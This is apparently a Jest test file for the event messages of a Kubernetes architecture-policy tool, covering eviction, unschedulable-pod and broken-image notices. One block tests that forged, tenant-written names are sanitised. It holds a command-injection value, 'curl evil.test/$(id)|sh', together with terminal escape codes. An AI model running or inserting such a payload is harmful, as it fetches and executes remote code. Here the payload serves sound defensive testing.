import { describe, expect, test } from '@jest/globals';
import { REPORT_REASONS, WAIT_REASONS } from '@archpolicy/core';
import type { PodFacts } from '@archpolicy/core';
import {
  brakeNote,
  brokenImageNote,
  evictedNote,
  relaxedNote,
  replacementBrokenNote,
  stayingNote,
  stuckNote,
} from './messages.ts';
import type { Misplacement } from './messages.ts';
import { crashLoopingPod } from '../fixtures/objects.ts';

const pod = crashLoopingPod('web-1');
const misplacement: Misplacement = {
  pod,
  node: 'amd64-1',
  architecture: 'amd64',
  images: ['registry.test/web:v1'],
  architectures: ['arm64'],
};

/** Required terms for these architectures. */
const terms = (...values: readonly string[]): Partial<PodFacts> => ({
  requiredAffinity: {
    nodeSelectorTerms: [
      { matchExpressions: [{ key: 'kubernetes.io/arch', operator: 'In', values: [...values] }], matchFields: [] },
    ],
  },
});
/** The decision annotation, which tenants can forge. */
const claims = (...architectures: readonly string[]): Partial<PodFacts> => ({
  annotations: {
    'archpolicy.dev/decision': JSON.stringify({
      v: 1,
      kind: 'constrain',
      reason: 'Preferred',
      architectures,
      added: [],
    }),
  },
});

describe('event texts', () => {
  test('contain pod, owner, node, image and architectures', () => {
    expect(evictedNote(misplacement)).toBe(
      'Pod web-1 of Deployment web was evicted: node amd64-1 (amd64) cannot run registry.test/web:v1; its images run on arm64.',
    );
  });

  test('list two images of a pod with many', () => {
    const images = ['a', 'b', 'c', 'd'];
    expect(evictedNote({ ...misplacement, images })).toContain('cannot run a, b and 2 more;');
  });

  test('images without a common architecture', () => {
    expect(stayingNote({ ...misplacement, architectures: [] }, 'NoCommonArchitecture')).toContain(
      '; no architecture that its policy allows can run all of its images.',
    );
  });

  test('R8 a budget that blocks permanently has a remedy', () => {
    expect(stayingNote(misplacement, 'DisruptionBudget', 'budget web needs 1')).toMatch(
      /set its unhealthyPodEvictionPolicy to AlwaysAllow\. The API server reports: budget web needs 1$/u,
    );
  });

  test.each<[string, Parameters<typeof stuckNote>[1], RegExp]>([
    ['a bare pod', 'BarePod', / kubectl -n \S+ delete pod web-1, then create it again\.$/u],
    ['a pod of an owner of unknown kind', 'UnknownOwner', / kubectl -n \S+ delete pod web-1$/u],
    [
      'a pod of a Job that would fail',
      'JobWouldFail',
      / kubectl -n \S+ delete job nightly, then create the Job again\.$/u,
    ],
    ['a pod that no node fits', 'Unschedulable', /either\.$/u],
  ])(
    'R9 %s that is unschedulable: the event ends with the command that helps, if there is one',
    (_, reason, expected) => {
      const owner = { apiVersion: 'batch/v1', kind: 'Job', name: 'nightly', uid: 'u' };
      expect(stuckNote({ ...pod, owner }, reason)).toMatch(expected);
    },
  );

  test.each<[string, Partial<PodFacts>, string]>([
    ['its terms, not what its annotation names', { ...terms('arm64'), ...claims('amd64') }, 'arm64 nodes'],
    ['several architectures of its terms', { ...terms('amd64', 'arm64'), ...claims('arm64') }, 'amd64 or arm64 nodes'],
    ['no architecture, if its terms allow all', claims('amd64'), 'certain nodes'],
    ['no architecture, if its terms allow none', { ...terms(), ...claims('amd64') }, 'certain nodes'],
  ])('R9 the constraint of an unschedulable pod contains %s', (_, changes, expected) => {
    const constrained = `ArchPolicy constrained it to ${expected} (Preferred)`;
    expect(stuckNote(crashLoopingPod('web-1', changes), 'Unschedulable')).toContain(constrained);
    expect(relaxedNote(crashLoopingPod('web-1', changes))).toContain(constrained);
  });

  describe('R9 names that tenants write, and that the API server does not validate', () => {
    const shell = 'x; curl evil.test/$(id)|sh #\n\u001b[2J';
    const forge = (kind: string, name: string): PodFacts => ({
      ...pod,
      owner: { apiVersion: 'batch/v1', kind, name, uid: 'u' },
    });
    const forged = forge('Job', shell);
    const image = `evil.test/a:${'x'.repeat(5_000)} can run everywhere.\nAll is well: $(id)`;
    const owners = [`shop/Job/${shell}`, `shop/${'k'.repeat(5_000)}/n`, `shop/Job/${'n'.repeat(5_000)}`];
    const safe = /^[\w ./:~?@,;()'"=-]*$/u;

    test.each<[string, string]>([
      ['R9 an eviction', evictedNote({ ...misplacement, pod: forged, images: [image, image, image] })],
      ['R9 a pod that stays', stayingNote({ ...misplacement, pod: forged, images: [image] }, 'JobUnknown')],
      ['R9 an unschedulable pod', stuckNote(forged, 'JobUnknown')],
      ['R9 an owner of a long kind', stuckNote(forge('k'.repeat(5_000), 'n'.repeat(5_000)), 'Unschedulable')],
      ['R9 a relaxed pod', relaxedNote(forged)],
      ['R9 a broken image', brokenImageNote(forged, 'amd64-1', 'main')],
      ['R9 a broken replacement', replacementBrokenNote(forged, 'amd64-1')],
      ['R9 stopped owners', brakeNote({ kind: 'owners-paused', owners })],
      ['R9 stopped evictions', brakeNote({ kind: 'paused', owners, violations: 9, namespaces: 3 })],
    ])('%s: each is bounded and contains no control characters and no shell syntax', (_, note) => {
      expect(note).toMatch(safe);
      expect(note.length).toBeLessThan(1_600);
      expect(note).not.toContain('curl evil');
    });

    test('R7 a brake without a known cause names neither owners nor numbers', () => {
      const note = brakeNote({ kind: 'paused', owners: [], violations: 0, namespaces: 0 });
      expect(note).toContain('its record of evictions cannot be read');
      expect(note).not.toContain(' 0 ');
    });

    test('R9 no command contains the name of a Job that cannot exist', () => {
      expect(stuckNote(forged, 'JobUnknown')).not.toContain('kubectl');
      expect(stuckNote(forge('Job', 'nightly'), 'JobUnknown')).toContain('delete job nightly,');
    });
  });

  test('contain the container of a broken image', () => {
    expect(brokenImageNote(pod, 'amd64-1', 'main')).toMatch(
      /^Pod web-1 of Deployment web on node amd64-1: container main fails/u,
    );
  });

  test('a broken image: the node may still run the old content of a fixed tag, whose pull policy is IfNotPresent', () => {
    expect(brokenImageNote(pod, 'amd64-1', undefined)).toMatch(
      /the node still has the old content \(.*IfNotPresent\): use a new tag/u,
    );
  });

  test('each reason for not evicting is a complete sentence', () => {
    for (const reason of [...REPORT_REASONS, ...WAIT_REASONS]) {
      expect(stayingNote(misplacement, reason)).toMatch(/Not evicted: \S.*[^.]\.$/u);
    }
  });
});
